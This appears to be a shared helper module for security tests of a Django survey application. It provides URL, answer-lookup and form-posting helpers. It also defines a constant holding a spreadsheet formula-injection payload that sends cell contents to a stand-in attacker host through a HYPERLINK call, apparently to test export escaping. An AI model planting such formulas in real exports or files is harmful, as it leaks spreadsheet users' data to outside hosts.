"""What the attacks share: addresses, answers as stored, a forged formula."""

from pathlib import Path

from django.urls import reverse

from surveys.models import (
    Answer,
    UserRole,
)

Role = UserRole.Role


BASE_DIR = Path(__file__).resolve().parents[2]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def url(name, *args):
    return reverse(name, args=args)


def answers_of(invitation):
    """The answers written to the invitation's response, leaving out the kind
    of agency that opening the link pre-fills from the agency's record."""
    answers = dict(
        Answer.objects.filter(response__invitation=invitation).values_list(
            "question__code", "value"
        )
    )
    if answers.get("agency_kind") == invitation.agency.kind:
        del answers["agency_kind"]
    return answers


def section_post(client, token, code, values, **extra):
    page = client.get(url("surveys:section", token, code))
    return client.post(
        url("surveys:section", token, code),
        {**values, "version": page.context["version"], "action": "save"},
        **extra,
    )
